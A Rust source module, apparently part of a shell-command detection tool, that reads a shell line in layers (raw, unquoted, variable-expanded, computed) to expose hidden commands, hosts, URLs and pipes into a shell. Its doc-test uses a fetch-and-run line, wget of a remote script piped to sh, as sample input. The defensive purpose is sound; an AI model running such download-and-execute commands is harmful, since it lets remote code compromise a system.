// SPDX-License-Identifier: AGPL-3.0-or-later
//! Views and their facts, and the order in which they are made.

use bumpalo::Bump;
use bumpalo::collections::Vec as ArenaVec;

use super::class::{
    COMMAND, CONTINUED, FED, GLOB, HIDDEN, OPERATED, PARAMETER, PASSED_ON, PATTERN, SETS, UNEVEN, WEIRD,
};
use super::facts::{Read, read};
use super::rewrite::{Bounds, rewrite};
use super::tools::Role;
use super::{edit, files};

/// Bits of a line whose words the lexical layer can change.
const LEXICAL: u32 = HIDDEN | CONTINUED | UNEVEN | WEIRD;
/// Texts inside of texts; what is deeper stays as it is written.
const ROUNDS_MAX: usize = 3;

/// Views of one line; past them the line has no more.
pub(super) const VIEWS_MAX: usize = 8;
/// Bytes of one view's text; what is longer is read up to here. A long text comes as its head and tail, 64 KiB
/// together, with a seam between.
pub(super) const TEXT_MAX: usize = (64 << 10) + 4;
/// Words and operators of one view: as many as a text of [`TEXT_MAX`] can have, so that no padding with short
/// words pushes a command out of sight.
pub(super) const TOKENS_MAX: usize = TEXT_MAX / 2;
/// Scripts inside of scripts; deeper ones are not read.
pub(super) const DEPTH_MAX: usize = 8;

/// One way to read a line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct View<'a> {
    /// What it took to see it.
    pub via: Via,
    /// A shell line; that of the raw view is the line itself.
    pub text: &'a str,
    /// What the text does.
    pub facts: Facts<'a>,
}

/// The layer that a view comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Via {
    /// The line as typed.
    Raw,
    /// Quotes, escapes and the like taken off.
    Lexical,
    /// Variables, the working directory and globs put in.
    State,
    /// What the line itself prints for a shell to run.
    Computed,
}

impl Via {
    /// The name that evidence has.
    pub fn as_str(self) -> &'static str {
        match self {
            Via::Raw => "raw",
            Via::Lexical => "lexical",
            Via::State => "state",
            Via::Computed => "computed",
        }
    }

    /// What the confidence of a rule that matches such a view is multiplied by.
    pub fn factor(self) -> f64 {
        match self {
            Via::Raw => 1.0,
            Via::Lexical => 0.95,
            Via::State => 0.85,
            Via::Computed => 0.8,
        }
    }
}

/// How far [`views`] goes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Layers {
    /// The raw view alone.
    Raw,
    /// Every view that the line has.
    All,
}

/// What a line does, by simple commands: those of the line and of the scripts inside of it
/// (`$(…)`, `sh -c '…'`, `eval`, `find -exec`).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Facts<'a> {
    /// Names of the programs: no folder, no wrapper.
    pub argv0: &'a [&'a str],
    /// The commands: program and words with one blank between, no redirection, on one line each.
    pub simple: &'a [&'a str],
    /// Pipelines of two or more commands, joined by ` | `.
    pub pipelines: &'a [&'a str],
    /// All words, wrappers and assignments too; no redirection.
    pub words: &'a [&'a str],
    /// The words after programs.
    pub args: &'a [&'a str],
    /// Words or parts of words that are paths, said in the shortest way; targets of redirections too.
    pub paths: &'a [&'a str],
    /// Words with a scheme, and what programs that fetch are told to fetch.
    pub urls: &'a [&'a str],
    /// Hosts of URLs, of `user@host`, of programs that talk to hosts, of `/dev/tcp/…`.
    pub hosts: &'a [&'a str],
    /// Files written by redirections, by `tee` and by `dd`.
    pub writes: &'a [&'a str],
    /// A shell or an interpreter runs what a command prints.
    pub pipeline_to_shell: bool,
    /// Two or more words are hidden by quotes or escapes that have no other use, or by `${IFS}`.
    pub obfuscated: bool,
    /// A shell runs decoded text.
    pub decoded_to_shell: bool,
}

/// Reads a line and derives its views; everything is put into the arena.
///
/// There is at least one view. The first is raw, and its text is the line. Each further one differs in text
/// or facts from all before it.
///
/// # Cost
///
/// Linear in the line, with bounds on what it can grow to: 8 views of 64 KiB each.
/// Nothing is allocated outside the arena. A line in which nothing hides costs its raw view only.
///
/// # Example
///
/// ```
/// use bumpalo::Bump;
/// use decnet_ttp::lift::shell::{Layers, views};
///
/// let arena = Bump::new();
/// let views = views("sudo /usr/bin/wget http://192.0.2.1/x.sh | sh", Layers::Raw, &arena);
/// assert_eq!(views[0].facts.argv0, ["wget", "sh"]);
/// assert_eq!(views[0].facts.pipelines, ["wget http://192.0.2.1/x.sh | sh"]);
/// assert!(views[0].facts.pipeline_to_shell);
/// ```
pub fn views<'a>(line: &'a str, layers: Layers, arena: &'a Bump) -> &'a [View<'a>] {
    let head = head(line);
    let raw = read(head, arena);
    let first = View { via: Via::Raw, text: line, facts: raw.facts };
    let edited = layers == Layers::All && edit::has_keys(head);
    if layers == Layers::Raw || !(edited || may_hide(&raw)) {
        return std::slice::from_ref(arena.alloc(first));
    }
    let mut views = ArenaVec::with_capacity_in(VIEWS_MAX, arena);
    views.push(first);
    let (mut last, bounds) = (raw, Bounds::of(head));
    let mut text = if edited { edit::apply(head, arena) } else { head };
    if edited || last.flags & LEXICAL != 0 {
        text = settled(text, Via::Lexical, bounds, arena);
        last = add(&mut views, Via::Lexical, text, arena);
    }
    if may_depend(&last) {
        text = settled(text, Via::State, bounds, arena);
        last = add(&mut views, Via::State, text, arena);
    }
    for _ in 0..ROUNDS_MAX {
        if !may_compute(&last) || views.len() == VIEWS_MAX {
            break;
        }
        let computed = rewrite(text, Via::Computed, bounds, arena);
        if computed == text {
            break;
        }
        // What came out may hide in its turn.
        text = settled(settled(computed, Via::Lexical, bounds, arena), Via::State, bounds, arena);
        last = add(&mut views, Via::Computed, text, arena);
    }
    views.into_bump_slice()
}

/// Whether a line can have more than its raw view.
fn may_hide(raw: &Read<'_>) -> bool {
    raw.flags & LEXICAL != 0 || may_depend(raw) || may_compute(raw)
}

/// Whether a word may depend on what the line did before, or on files.
fn may_depend(read: &Read<'_>) -> bool {
    const SETTERS: u64 = 1 << Role::Declare as u64
        | 1 << Role::Set as u64
        | 1 << Role::Read as u64
        | 1 << Role::Mapfile as u64;
    if read.flags & (OPERATED | PATTERN) != 0 {
        return true;
    }
    if read.flags & PARAMETER != 0 && (read.flags & SETS != 0 || read.roles & SETTERS != 0) {
        return true;
    }
    let is_relative = |path: &&str| !path.starts_with(['/', '~', '$']);
    let is_known = |arg: &&str| is_relative(arg) && files::is_known_name(arg);
    read.roles & (1 << Role::Cd as u64) != 0
        && (read.flags & GLOB != 0
            || read.facts.paths.iter().any(is_relative)
            || read.facts.args.iter().any(is_known))
}

/// Whether something prints, and something runs what is printed.
fn may_compute(read: &Read<'_>) -> bool {
    const PRINTERS: u64 = 1 << Role::Echo as u64 | 1 << Role::Printf as u64 | 1 << Role::Cat as u64;
    const READERS: u64 = 1 << Role::Read as u64 | 1 << Role::Mapfile as u64;
    let prints = read.roles & PRINTERS != 0 || read.flags & FED != 0;
    let runs = read.flags & (COMMAND | FED | PASSED_ON) != 0 || read.facts.pipeline_to_shell;
    prints && (runs || read.roles & READERS != 0)
}

/// Rewrites a text in a layer until it stays as it is.
fn settled<'a>(text: &'a str, via: Via, bounds: Bounds, arena: &'a Bump) -> &'a str {
    let mut text = text;
    for _ in 0..ROUNDS_MAX {
        let next = rewrite(text, via, bounds, arena);
        if next == text {
            break;
        }
        text = next;
    }
    text
}

/// Adds a view, if it says something new.
fn add<'a>(views: &mut ArenaVec<'a, View<'a>>, via: Via, text: &'a str, arena: &'a Bump) -> Read<'a> {
    let found = read(text, arena);
    let is_new = |view: &View<'_>| view.text != text || view.facts != found.facts;
    if views.iter().all(is_new) {
        views.push(View { via, text, facts: found.facts });
    }
    found
}

/// The part of a text that is read.
fn head(text: &str) -> &str {
    let mut end = text.len().min(TEXT_MAX);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or(text)
}
